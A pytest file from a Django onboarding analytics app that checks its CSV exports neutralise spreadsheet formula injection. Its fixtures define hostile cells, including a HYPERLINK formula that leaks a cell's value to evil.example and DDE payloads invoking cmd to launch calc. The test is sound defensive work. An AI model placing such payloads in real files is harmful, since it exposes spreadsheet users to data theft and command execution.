"""CSV exports neutralise cells a spreadsheet would run as formulas (DESIGN §6, OWASP).

Every CSV Onramp writes is covered: the funnel people export (``/flows/<slug>/funnel/people.csv``)
and ``manage.py funnel --format csv`` here, the backtest report's people
(``/rules/backtests/<id>/people.csv``) in ``tests/dashboard/test_backtest_report.py``. A last test
fails when product code writes CSV without ``onboarding.csvsafe``.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
import time_machine
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from onboarding.csvsafe import FORMULA_PREFIXES, neutralise_cell
from onboarding.models import OnboardingFlow, Step
from tests.dashboard.test_funnel_semantics import T0, identify, send, track

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
HOSTILE = {
    "=": HYPERLINK,
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_formula_cells_get_a_leading_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["u1", "a=b", "mail+tag@example.com", " =1", "", 3, -3, -1.5])
def test_other_cells_and_numbers_are_unchanged(value):
    assert neutralise_cell(value) == value


def test_prefixes_are_owasps():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture
def flow(db) -> OnboardingFlow:
    flow = OnboardingFlow.objects.create(slug="activation", name="Activation", window_seconds=86400)
    Step.objects.create(flow=flow, position=1, name="@SUM(1+1)", event_name="Signed Up")
    Step.objects.create(flow=flow, position=2, name="Verified", event_name="Email Verified")
    return flow


@pytest.fixture
def hostile_people(api, flow) -> None:
    """A sign-up for each hostile userId (with an email trait that is a formula too)."""
    messages = []
    for n, value in enumerate(HOSTILE.values()):
        messages.append(identify(value, T0 - timedelta(hours=1), email=f"=cmd{n}|'/C calc'!A0"))
        messages.append(track(value, "Signed Up", T0, source=value))
    send(api, *messages)


def test_funnel_people_csv_neutralises_user_ids_and_emails(hostile_people, alice):
    client = Client()
    client.force_login(alice)
    url = reverse("dashboard:funnel_people_csv", args=["activation"])
    with time_machine.travel(T0 + timedelta(days=1), tick=False):
        response = client.get(url, {"step": 1, "since": "2026-03-01", "until": "2026-03-03"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(row["external_id"] for row in rows) == sorted("'" + v for v in HOSTILE.values())
    assert all(row["email"].startswith("'=cmd") for row in rows)
    assert HYPERLINK not in text.replace("'" + HYPERLINK.replace('"', '""'), "")
    assert all(row["person_id"].isdigit() for row in rows)  # numbers are left alone


def test_funnel_command_csv_neutralises_step_names_and_breakdown_values(hostile_people):
    out = io.StringIO()
    with time_machine.travel(T0 + timedelta(days=1), tick=False):
        call_command(
            "funnel",
            "activation",
            "--since",
            "2026-03-01",
            "--until",
            "2026-03-03",
            "--format",
            "csv",
            "--breakdown",
            "source",
            stdout=out,
        )
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    names = {row[2] for row in rows[1:]}
    assert names == {"'@SUM(1+1)", "Verified"}
    breakdowns = {row[0] for row in rows[1:]} - {"(all)"}
    assert breakdowns == {"'" + value for value in HOSTILE.values()}
    assert {row[4] for row in rows[1:] if row[2] == "'@SUM(1+1)"} == {"6", "1"}  # counts stay


PRODUCT = ("config", "dashboard", "onboarding", "triggers")
WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\b")


def test_every_csv_writer_goes_through_csvsafe():
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for package in PRODUCT
        for path in (root / package).rglob("*.py")
        if path.name != "csvsafe.py" and WRITERS.search(path.read_text())
    ]
    assert offenders == [], "write CSV with onboarding.csvsafe.csv_writer"
